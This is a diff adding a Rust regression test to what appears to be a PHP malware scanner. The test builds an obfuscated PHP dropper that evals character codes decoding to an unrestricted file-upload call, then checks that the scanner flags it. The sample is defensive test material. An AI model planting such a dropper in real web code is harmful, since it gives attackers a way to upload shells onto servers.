@@ -1501,3 +1501,17 @@ fn a_method_of_an_object_the_file_makes_that_runs_its_argument_is_followed() {
     let other = loader.replace("$R = new C(); ", "");
     assert!(!sinks(&other).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(&other));
 }
+
+#[test]
+fn a_written_list_of_character_codes_mapped_to_chr_is_read() {
+    // Regression: fresh106's one-line dropper: `eval(implode("", array_map("chr", [...])))`
+    // of `move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]);`.
+    let code = "move_uploaded_file($_FILES[\"f\"][\"tmp_name\"], $_FILES[\"f\"][\"name\"]);";
+    let codes: Vec<String> = code.bytes().map(|b| b.to_string()).collect();
+    let dropper = format!("<?php eval(implode(\"\", array_map(\"chr\", [{}])));", codes.join(","));
+    let found = sinks(&dropper);
+    assert!(found.contains(&(Why::EvalOfDecoded, Danger::Critical)), "{found:?}");
+    assert!(found.iter().any(|(w, _)| *w == Why::UploadDropper), "{found:?}");
+    // Codes of a word printed, not run, are no finding.
+    assert!(sinks("<?php echo implode('', array_map('chr', [79, 75]));").is_empty());
+}
